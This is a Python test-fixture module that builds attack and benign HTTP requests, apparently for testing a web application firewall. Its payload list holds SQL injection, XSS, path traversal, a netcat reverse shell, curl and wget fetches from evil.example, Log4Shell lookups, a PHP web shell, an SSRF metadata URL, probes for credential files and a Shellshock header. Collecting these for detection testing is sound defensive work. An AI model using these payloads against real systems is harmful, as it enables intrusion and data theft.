"""Requests with attacks and without, as clients send them."""

from __future__ import annotations

import json
from typing import Final, NamedTuple
from urllib.parse import quote, urlencode

FORM: Final = "application/x-www-form-urlencoded"
BROWSER: Final = {
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "Accept-Language": "en-GB,en;q=0.5",
    "Accept-Encoding": "gzip, deflate, br",
}


class Sample(NamedTuple):
    """A request."""

    path: str = "/"
    method: str = "GET"
    body: bytes | None = None
    headers: tuple[tuple[str, str], ...] = ()


def form(**fields: str) -> Sample:
    """Return a form that is sent."""
    return Sample("/form", "POST", urlencode(fields).encode(), (("Content-Type", FORM),))


def document(value: object, path: str = "/api") -> Sample:
    """Return a JSON document that is sent."""
    return Sample(path, "POST", json.dumps(value).encode(), (("Content-Type", "application/json"),))


def query(**fields: str) -> Sample:
    """Return a query."""
    return Sample(f"/search?{urlencode(fields)}")


def with_header(name: str, value: str) -> Sample:
    """Return a request with a header."""
    return Sample(headers=((name, value),))


def typed(kind: str, body: bytes) -> Sample:
    """Return a body of a type that is sent."""
    return Sample("/upload", "POST", body, (("Content-Type", kind),))


def upload(name: str, content: bytes) -> Sample:
    """Return a file that is sent."""
    head = f'--x\r\nContent-Disposition: form-data; name="f"; filename="{name}"\r\n\r\n'.encode()
    return typed("multipart/form-data; boundary=x", head + content + b"\r\n--x--\r\n")


_VALUES: Final = (
    "1' or 1=1--",
    "1 union select username, password from users",
    "1; drop table users--",
    "' and sleep(5)#",
    "1' and extractvalue(1, concat(0x7e, version()))--",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "javascript:alert(document.domain)",
    "<iframe src=javascript:alert(1)>",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/shadow",
    "; cat /etc/passwd",
    "| nc 10.0.0.1 4444 -e /bin/sh",
    "$(curl http://evil.example/x.sh)",
    "`wget http://evil.example/x`",
    "&& ping -c 10 127.0.0.1",
    "<?php system($_GET['c']); ?>",
    "php://filter/convert.base64-encode/resource=index.php",
    "http://169.254.169.254/latest/meta-data/",
    "${jndi:ldap://evil.example/a}",
    "require('child_process').exec('id')",
    'O:8:"Exploit":1:{s:4:"code";s:10:"phpinfo();";}',
    "T(java.lang.Runtime).getRuntime().exec('id')",
)
"""Parameters with attacks: injections of SQL, scripts, paths, commands, PHP, addresses, templates and objects."""
_REQUESTS: Final = (
    Sample("/.git/config"),
    Sample("/.env"),
    Sample("/download?file=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    Sample("/.aws/credentials"),
    Sample("/wp-config.php.bak"),
    with_header("User-Agent", "sqlmap/1.8"),
    with_header("User-Agent", "() { :; }; /bin/bash -c id"),
    with_header("Referer", "https://example.com/?q=<script>alert(1)</script>"),
    with_header("Cookie", "id=1' or 1=1--"),
    with_header("X-Api-Version", "${jndi:ldap://evil.example/a}"),
    typed("text/xml", b"<?xml version='1.0'?><a>1 union select password from users</a>"),
    upload("shell.php", b"<?php system(1);"),
)
_TEMPLATE: Final = "{{constructor.constructor('return process')()}}"
MISSED: Final = (query(id=_TEMPLATE), form(comment=_TEMPLATE), document({"items": [{"name": _TEMPLATE}]}))
"""Attacks that the paranoia level 1 does not know: templates that a page evaluates."""
ATTACKS: Final = (
    *(query(id=each) for each in _VALUES),
    *(form(comment=each) for each in _VALUES),
    *(document({"items": [{"name": each}]}) for each in _VALUES),
    *_REQUESTS,
    *MISSED,
)

TEXTS: Final = (
    "hello world",
    "Best café in Zürich?",
    "Order #1234 was late; please select another date from the calendar.",
    "The union of all members will meet on Friday.",
    "Drop me a line or call 555-0100 (after 6 pm).",
    "I'd like to update my address: 12 O'Connell Street, Dublin 1.",
    "It's 50% off -- don't miss it!",
    "Müller & Söhne GmbH",
    "Where can I find the table of contents?",
    "x < y and y > z",
    "if a = b then c = d",
    "Price between 10 and 20 euros, sorted by rating",
    "C++ or C# developer wanted",
    "Read the docs at https://www.example.com/guide?page=2#top",
    "See /docs/setup and /docs/usage for details",
    "My e-mail is jane.doe+news@example.co.uk",
    "Temperature: -5°C … +10°C",
    "今日はいい天気ですね",
    "Привет, как дела?",
    "مرحبا بالعالم",
    "Emoji are fun 🎉🚀",
    "1 + 1 = 2, 2 * 3 = 6",
    "The script of the play is 200 pages long",
    'He said: "I\'ll be back" and left',
    "Insert the card into the slot, then delete the old one",
    "A cat, a dog and a bird",
    "Please exec the contract by Monday",
    "Ping me when you're done",
    "We need more time; the id is 42",
    "O'Brien and D'Angelo",
    "Tom & Jerry; Mickey & Minnie",
    "50/50 chance, 24/7 service, 9-to-5 job",
    "function and form",
    "Like this page? Having trouble?",
    "Group by colour, order by size",
    "[Draft] Minutes (v2) {internal}",
    "€ 1.234,56 / £ 1,234.56 / $ 1,234.56",
    "2026-11-29T16:00:00+01:00",
    "a@b.c, d@e.f; g@h.i",
    "Line one\nLine two\n\nLine four",
    "Was wird hier gesucht? Nichts!",
    "¿Dónde está la biblioteca?",
    "Les élèves n'ont pas d'école aujourd'hui",
    "admin of the chess club",
    "root vegetables: carrots, beets",
    "the password must have 8 characters",
    "He passed the exam, and 1 or 2 others did too",
    "#hashtag @mention ~tilde ^caret",
    "version 1.2.3-beta+build.7",
    "all your base are belong to us",
)
_GRAPHQL: Final = "query Items($first: Int!) { items(first: $first) { id name } }"
FALSE_POSITIVES: Final = (document({"query": _GRAPHQL, "variables": {"first": 10}}),)
"""Requests that are taken for attacks: queries of GraphQL with variables, which look like those of MongoDB (942290)."""
_OTHERS: Final = (
    *map(Sample, ("/", "/index.html", "/favicon.ico", "/robots.txt", "/static/app.3f2a1b.js", "/a/b/c/d")),
    *(Sample(f"/products/{number}/reviews?page={number}&sort=-date") for number in range(1, 6)),
    *(Sample(f"/{quote(text)}") for text in ("größe", "tv & audio", "a,b;c", "what's new", "(1)", "50%")),
    Sample("/", "HEAD"),
    Sample("/", "OPTIONS"),
    with_header("Cookie", "session=0a1b2c3d4e5f; theme=dark; _ga=GA1.2.12345.1700000000; consent=%7B%22a%22%3Atrue%7D"),
    with_header("Referer", "https://www.google.com/search?q=select+best+shoes"),
    with_header("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1c2VyIn0.c2lnbmF0dXJl"),
    with_header("If-None-Match", 'W/"33a64df5-1a2b"'),
    with_header("Range", "bytes=0-1023"),
    *FALSE_POSITIVES,
    document({"query": "{ items(first: 10) { id name } }"}),
    document({"jsonrpc": "2.0", "method": "sum", "params": [1, 2, 3], "id": 1}),
    document([{"op": "replace", "path": "/name", "value": "new"}]),
    document({"image": "aGVsbG8gd29ybGQ=" * 100}),
    document({}),
    typed("application/xml", b"<?xml version='1.0'?><order><item id='1'>shoes</item></order>"),
    upload("photo.jpg", b"\xff\xd8\xff\xe0 JFIF"),
    form(email="jane.doe@example.com", password="correct horse battery staple"),
    form(name="Jane", address="1 High St.\nLondon", card="4111 1111 1111 1111"),
    form(message="Dear all,\n\nplease find attached the report (PDF, 2 MB).\n\nKind regards,\nJane"),
)
CLEAN: Final = (
    *(query(q=each) for each in TEXTS),
    *(form(comment=each) for each in TEXTS),
    *(document({"title": "note", "text": each, "tags": ["a", "b"]}) for each in TEXTS),
    *(with_header("Cookie", f"note={quote(each)}") for each in TEXTS[:20]),
    *_OTHERS,
)
